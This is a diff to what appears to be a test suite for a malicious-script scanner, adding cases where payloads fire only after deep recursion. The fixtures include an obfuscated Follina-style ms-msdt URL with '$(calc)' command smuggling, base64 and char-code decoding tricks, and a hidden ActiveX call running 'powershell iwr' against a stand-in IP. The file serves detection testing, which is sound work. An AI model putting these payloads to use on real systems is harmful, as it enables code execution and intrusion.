@@ -25,6 +25,10 @@ const macro = (body: string, rest = ''): Buffer => macroDocument(`Sub AutoOpen()
 const BUSY = 'var n=0;for(var i=0;i<400000;i++){n=n+i;}'
 /** Functions that call each other until nothing is left of what a script may take. */
 const BUSY_CALLS = `${times(9, (i) => `function b${i}(x){b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x);b${i + 1}(x)}`)}function b9(x){y=x}b0(z);`
+/** An address in parts, and as a whole, that a script decodes. */
+const TOOL = 'ms-msdt:/id PCWDiagnostic /param "$(calc).exe"'
+const CODES = [...TOOL].map((letter) => letter.charCodeAt(0) + 1)
+const DECODED = `atob('${Buffer.from(TOOL).toString('base64')}')`
 const BUSY_BASIC = 'For i = 1 To 60000\r\nFor j = 1 To 60\r\nx = x + 1\r\nNext\r\nNext\r\n'
 
 suite('after much else', () => {
@@ -56,6 +60,50 @@ suite('after much else', () => {
       ),
     ],
     ['a file after many calls', page('<p>a</p>', `var p='${ZIP}';${BUSY_CALLS}${SMUGGLE}`)],
+    [
+      'an address that the last of many calls opens',
+      page('<p>a</p>', `var n=0;function f(x){n++;if(n==300){location=${DECODED}}else f(x)}f(1)`),
+    ],
+    [
+      'an address that the last of many calls on something unknown opens',
+      page('<p>a</p>', `var n=0;function f(x){n++;if(n==300){location=${DECODED}}else f(x)}f(window.q)`),
+    ],
+    [
+      'an object that the last of many calls creates',
+      packed(
+        'a.js',
+        `var n=0;function f(x){n++;if(n==300){new this["Active"+"XObject"]("WScript.Shell")["R"+"un"]("powershell -w hidden iwr http://192.0.2.1/a")}else f(x)}f(1)`,
+      ),
+    ],
+    [
+      'an address that many calls within each other write',
+      page(
+        '<p>a</p>',
+        `var s='',d=[${times(400, () => '1,')}${CODES}];function f(i){if(d[i]>1)s+=String.fromCharCode(d[i]-1);if(i<d.length)f(i+1)}f(0);location=s`,
+      ),
+    ],
+    [
+      'an address that calls write after many calls',
+      page(
+        '<p>a</p>',
+        `${BUSY_CALLS}var s='';function a(c){s+=String.fromCharCode(c-1)}${CODES.map((code) => `a(${code});`).join('')}location=s`,
+      ),
+    ],
+    [
+      'an address that a second call writes after many calls',
+      page(
+        '<p>a</p>',
+        `${BUSY_CALLS}var s='https://a.example/',k=0;function a(){k++;if(k>1)s=${DECODED}}a();a();location=s`,
+      ),
+    ],
+    [
+      'an address that a second call opens after many calls',
+      page('<p>a</p>', `${BUSY_CALLS}function a(c){location=c}a('https://a.example/');a(${DECODED})`),
+    ],
+    [
+      'an address that a function of the page opens after many calls',
+      page('<p>a</p>', `${BUSY_CALLS}function a(c){location.replace(c)}a('https://a.example/');a(${DECODED})`),
+    ],
     ['a script of a PDF after many calls', script(`${BUSY_CALLS}app.launchURL("http://192.0.2.1/a.exe")`)],
     [
       'a built script',
